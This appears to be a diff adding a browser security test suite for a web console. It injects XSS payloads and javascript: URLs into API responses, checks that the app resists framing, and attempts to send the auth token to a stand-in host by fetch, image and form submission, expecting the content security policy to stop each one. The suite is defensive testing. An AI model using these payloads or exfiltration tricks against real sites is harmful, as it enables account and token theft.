@@ -1,0 +1,146 @@
+// What somebody hostile would try, in a real browser: records that are scripts, a page around ours, and a way
+// out for the token. SECURITY.md names each of these.
+
+import { once } from 'node:events';
+import http from 'node:http';
+import type { Page } from 'playwright-core';
+import { afterAll, beforeAll, describe, expect, inject, test } from 'vitest';
+import { createSite } from '../../server/site.ts';
+import { paths } from '../../src/paths.ts';
+import { testBrowser } from '../support/browser.ts';
+import { mapped } from '../support/dialects.ts';
+import { json, type Proxy, startProxy } from '../support/proxy.ts';
+import { startServer, type TestServer } from '../support/server.ts';
+import { startStaticHost, type StaticHost } from '../support/staticHost.ts';
+
+const browser = testBrowser();
+let server: TestServer;
+let token: string;
+/** Somebody else's host: what it was asked for, and how it answers. */
+const requests: string[] = [];
+const elsewhere = http.createServer((request, response) => {
+  requests.push(request.url ?? '');
+  response.writeHead(200, { 'Content-Type': 'text/html' }).end(`<iframe src="${server.url}/login"></iframe>`);
+});
+
+beforeAll(async () => {
+  server = await startServer({ site: createSite(inject('site')) });
+  token = await server.signIn(server.people.administrator);
+  await once(elsewhere.listen(0, '127.0.0.1'), 'listening');
+});
+afterAll(async () => {
+  elsewhere.closeAllConnections();
+  elsewhere.close();
+  await server.stop();
+});
+
+function elsewhereUrl(): string {
+  const address = elsewhere.address();
+  if (!address || typeof address === 'string') throw new Error('The other host has no port');
+  return `http://127.0.0.1:${address.port}`;
+}
+
+async function openSignedIn(path: string, origin = server.url): Promise<Page> {
+  const origins = [{ origin, localStorage: [{ name: 'auth_token', value: token }] }];
+  const page = await browser.open(origin + path, { storageState: { cookies: [], origins } });
+  await page.getByRole('heading', { level: 1 }).waitFor();
+  return page;
+}
+
+describe('a script in every text field, and a javascript: address in every address', () => {
+  const script = '"><img src=x onerror="window.hostile=1"><script>window.hostile=1</script>';
+  const address = 'javascript:window.hostile=1';
+  /** A closed choice, or a date: what is none of theirs is refused before it is shown. */
+  const choices = ['event_type', 'type', 'health_status', 'multiple_clock_out_mode', 'timestamp', 'created_at', 'date'];
+
+  const hostile = (body: unknown) =>
+    mapped(body, (value, name) => {
+      if (typeof value !== 'string' || choices.includes(name)) return value;
+      return /url$/.test(name) ? address : script;
+    });
+
+  // On a host without a content security policy: the console does not live by it.
+  let proxy: Proxy;
+  let host: StaticHost;
+  beforeAll(async () => {
+    proxy = await startProxy(server.api, async (_, ask) => {
+      const { status, text } = await ask();
+      return json(status, hostile(JSON.parse(text)));
+    });
+    host = await startStaticHost(inject('site'), '/', new URL(proxy.api).origin);
+  });
+  afterAll(async () => {
+    await host.stop();
+    await proxy.stop();
+  });
+
+  async function openHostile(path: string): Promise<Page> {
+    const page = await openSignedIn(path, new URL(host.url).origin);
+    await page.getByText('onerror="window.hostile=1"').first().waitFor();
+    return page;
+  }
+
+  async function expectHarmless(page: Page): Promise<void> {
+    expect(await page.evaluate(() => 'hostile' in window)).toBe(false);
+    expect(await page.locator('img[src="x"], a[href^="javascript" i], iframe, object, embed').count()).toBe(0);
+  }
+
+  const screens = Object.values(paths).filter((path) => !['/login', '/forgot-password'].includes(path));
+
+  test.each(screens)('%s shows them as text', async (path) => {
+    await expectHarmless(await openHostile(path));
+  });
+
+  test.each([
+    ['/companies', /^URLs of /],
+    ['/companies', /^Edit /],
+    ['/companies', /^Delete /],
+    ['/attendance', /^View/],
+  ])('%s, in the dialog of %s too', async (path, name) => {
+    const page = await openHostile(path);
+    await page.getByRole('button', { name }).first().click();
+    await page.getByRole('dialog').or(page.getByRole('alertdialog')).first().waitFor();
+    await expectHarmless(page);
+  });
+});
+
+test('no other page can put ours into a frame', async () => {
+  browser.expectProblem(/frame-ancestors/);
+  const page = await browser.open(elsewhereUrl());
+  await expect.poll(() => page.frames()[1]?.url()).toMatch(/^chrome-error:/);
+});
+
+describe('a token that somebody got hold of in the page', () => {
+  const ways = [
+    ['a request', (url: string) => void fetch(url).catch(() => undefined)],
+    ['a picture', (url: string) => void (new Image().src = url)],
+    [
+      'a form',
+      (url: string) => {
+        const form = document.createElement('form');
+        form.action = url;
+        document.body.append(form);
+        form.submit();
+      },
+    ],
+  ] as const;
+
+  test.each(ways)('does not leave by %s', async (way, send) => {
+    browser.expectProblem(/Content Security Policy/);
+    const page = await openSignedIn('/profile');
+    const url = `${elsewhereUrl()}/stolen-by-${way.replace(' ', '-')}`;
+    await page.evaluate(send, url);
+    await page.evaluate(() => new Promise(requestAnimationFrame));
+    expect(requests.filter((path) => path.includes('stolen'))).toEqual([]);
+  });
+
+  test('never stands in an address', async () => {
+    const page = await openSignedIn('/profile');
+    const asked: string[] = [];
+    page.on('request', (request) => asked.push(request.url()));
+    await page.goto(`${server.url}/companies?page=2`);
+    await page.getByText(/Page 2 of/).waitFor();
+    expect(asked.some((url) => url.includes('/web/api/v1/companies'))).toBe(true);
+    expect(asked.filter((url) => url.includes(token))).toEqual([]);
+  });
+});
